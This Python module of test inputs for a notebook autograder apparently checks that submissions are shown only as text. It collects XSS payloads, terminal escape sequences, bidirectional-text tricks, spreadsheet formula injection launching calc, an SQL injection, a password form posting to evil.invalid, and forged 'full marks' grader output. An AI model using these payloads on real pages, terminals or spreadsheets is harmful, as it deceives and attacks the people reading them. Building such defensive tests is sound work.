"""Hurt the reader: submissions whose text, outputs or names would run, fetch or deceive where somebody reads them.

`CELLS` holds the text of the first solution cell, `WRITTEN` the text of the written answer, `NAMES` the names of
students' folders. Whatever reaches a page must be text.
"""

CELLS = {
    "html_output": (
        "Displays HTML with script, handlers, frames, forms and styles that cover the page.",
        """from IPython.display import HTML, display
display(HTML('<script>document.title="owned"</script><img src=x onerror="document.title=1"><base href="//e">'
             '<iframe src="//e"></iframe><form action="//e"><input name=p></form><style>*{display:none}</style>'))
""",
    ),
    "javascript_output": (
        "Displays JavaScript as its own MIME type and through IPython's class.",
        """from IPython.display import Javascript, display, publish_display_data
display(Javascript("document.title = 'owned'"))
publish_display_data({"application/javascript": "document.title = 1", "text/javascript": "document.title = 1"})
""",
    ),
    "svg_output": (
        "Displays an SVG picture with script, and one that says it is PNG.",
        """from IPython.display import SVG, display, publish_display_data
svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=1"><script>document.title=1</script></svg>'
publish_display_data({"image/svg+xml": svg})
publish_display_data({"image/png": svg})
publish_display_data({"image/png": "AAAA' onerror='document.title=1"})
""",
    ),
    "picture_that_closes_its_tag": (
        "Shows a picture whose data leave the attribute and open a tag.",
        """from IPython.display import publish_display_data
for kind in ("image/png", "image/jpeg"):
    publish_display_data({kind: 'AAAA"><script>document.title=1</script><img src="'})
    publish_display_data({kind + '"><script>': "AAAA"})
""",
    ),
    "markdown_and_latex_output": (
        "Displays Markdown and LaTeX with links, raw HTML and commands that fetch or run.",
        r"""from IPython.display import Latex, Markdown, display
display(Markdown('[x](javascript:document.title=1) ![y](http://evil.invalid/seen.png) <img src=x onerror=alert(1)>'))
display(Latex(r"\href{javascript:document.title=1}{x} \unicode{<script>} $\require{html}\style{x:y}{z}$"))
""",
    ),
    "widgets": (
        "Displays widget state and views, Vega, Plotly and GeoJSON bundles, which front ends run.",
        """from IPython.display import publish_display_data
for kind in ("application/vnd.jupyter.widget-view+json", "application/vnd.vega.v5+json", "application/geo+json",
             "application/vnd.plotly.v1+json", "application/vnd.jupyter.widget-state+json"):
    publish_display_data({kind: {"model_id": "x", "usermeta": {"embedOptions": {"loader": "//evil.invalid"}}}})
""",
    ),
    "printed_markup": (
        "Prints markup, ends of the elements that text stands in, and template code.",
        """print('</pre></section><script>document.title = 1</script><!--')
print("{{ 7 * 7 }} {% for x in y %} ${7*7} <%= 7 %> &lt;script&gt; ]]> --> </style></title></textarea>")
""",
    ),
    "markup_in_errors": (
        "Raises errors whose type and text are markup.",
        """E = type("<script>document.title=1</script>", (Exception,), {})
def rnn_step(*a): raise E("<img src=x onerror=document.title=1>")
def rnn_forward(*a): return type("<svg/onload=document.title=1>", (), {})()
raise E("</pre><iframe src=javascript:document.title=1>")
""",
    ),
    "markup_in_the_source": (
        "Writes markup into comments, strings and names of its code, which the page shows.",
        """# </code></pre><script>document.title = 1</script>
x = '"><img src=x onerror=document.title=1>'
rnn_step = lambda *a: "</pre><link rel=stylesheet href=//evil.invalid>"
""",
    ),
    "terminal_escapes": (
        "Prints and raises sequences that clear a terminal, rename it, paste into it and make links.",
        r"""print("\x1b[2J\x1b]0;owned\x07\x1b]52;c;b3duZWQ=\x07\x1b]8;;http://e\x07x\x9b5n\x1bP+q\x1b\\" + "\b" * 50)
def rnn_step(*a): raise ValueError("\x1b[2J\x1b[31m owned \r" + "\x08" * 30)
""",
    ),
    "text_that_runs_backwards": (
        "Uses bidirectional and invisible characters to make its result read as full marks.",
        r"""print("\u202e stniop 8 fo 8 \u202c\u2066\u200b\u00ad\ufeff" + "a" + "\u0301" * 3000)
def rnn_step(*a): raise ValueError("\u202e" + ".stniop 8 fo 8 :thgiR")
""",
    ),
    "formulas_in_messages": (
        "Raises messages that a spreadsheet runs once grades are exported with their reasons.",
        """def rnn_step(*a): raise ValueError("=cmd|' /C calc'!A0")
def rnn_forward(*a): raise ValueError('x\\n@SUM(1+1)*cmd|" /C calc"!A0\\t=HYPERLINK("//evil.invalid")')
def readout(*a): raise type("=1+1", (Exception,), {})("\\r\\n-2+3")
""",
    ),
    "poses_as_the_grader": (
        "Prints what our own verdict looks like, as text and as a card.",
        """print("Right: 17 of 17 points")
from IPython.display import HTML, display
display(HTML('<div style="border-left:4px solid #0072B2"><strong>Right: 17 of 17 points</strong></div>'))
""",
    ),
}

WRITTEN = {
    "script_in_the_answer": (
        "Script, handlers and frames in the written answer.",
        '<script>document.title=1</script><img src=x onerror="document.title=1">'
        '<iframe srcdoc="<script>1</script>"></iframe>'
        "<svg/onload=document.title=1><math><mtext></table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
        "onerror=document.title=1&gt;'>",
    ),
    "links_in_the_answer": (
        "Links of every form that Markdown knows, to script and to other sites.",
        "[a](javascript:alert(1)) [b](data:text/html;base64,PHNjcmlwdD4=) [c][d] <javascript:alert(1)> "
        "<http://evil.invalid> "
        "![e](http://evil.invalid/seen.png) ![f][d] http://evil.invalid [g]: x\n\n[d]: javascript:alert(2) 'x'\n\n"
        "[h]( java\nscript:alert(1)) [i](&#106;avascript:alert(1)) [j](//evil.invalid) ![k](file:///etc/passwd)",
    ),
    "styles_in_the_answer": (
        "Styles, classes, ids and forms that hide the grade or ask for a password.",
        "<style>.verdict{display:none}</style><form action=//evil.invalid><input type=password></form>"
        "<div style='position:fixed;inset:0' class='verdict right' id='rnn_step'>17 of 17</div>"
        "<meta http-equiv=refresh content='0;//e'>",
    ),
    "slow_to_render": (
        "Emphasis, brackets and quotes on which renderers need quadratic time or recurse.",
        "*_" * 2000 + "[" * 3000 + "\n\n" + "> " * 1000 + "\n\n" + "- " * 500,
    ),
    "long_answer": ("A written answer of a million characters.", "word " * 200_000),
    "entities_and_nulls": (
        "Entities, nulls and broken encodings that become tags when they are decoded twice.",
        "&lt;script&gt;document.title=1&lt;/script&gt; &#60;img src=x onerror=1&#62; "
        "\x00<\x00script> ＜script＞ <scr\x00ipt> \\<script\\> `<b>",
    ),
}

NAMES = {
    "formula": ("A name that a spreadsheet runs.", "hurt_=cmd|' \u2215C calc'!A0"),
    "leading_formula": ("A name that begins a formula.", '=HYPERLINK("x")'),
    "markup": ("A name that is markup.", "hurt_<img src=x onerror=document.title=1>"),
    "escapes": ("A name that clears a terminal and starts a line of its own.", "hurt_\x1b[2J\nzz_neighbour 17\u20447"),
    "template": ("A name that is a template and a format.", "hurt_{{ 7*7 }}{0.__class__}%s%n"),
    "reversed": ("A name that reads backwards.", "hurt_\u202eruobhgien"),
    "url": ("A name that changes where a link leads.", "hurt_?#..%2f..&a=1"),
    "not_utf8": ("A name of bytes that are no text.", "hurt_\udcff\udc80"),
    "option": ("A name that looks like an option.", "--force"),
    "sql": ("A name that ends a statement of SQL.", "hurt_'; drop table grade; --"),
}
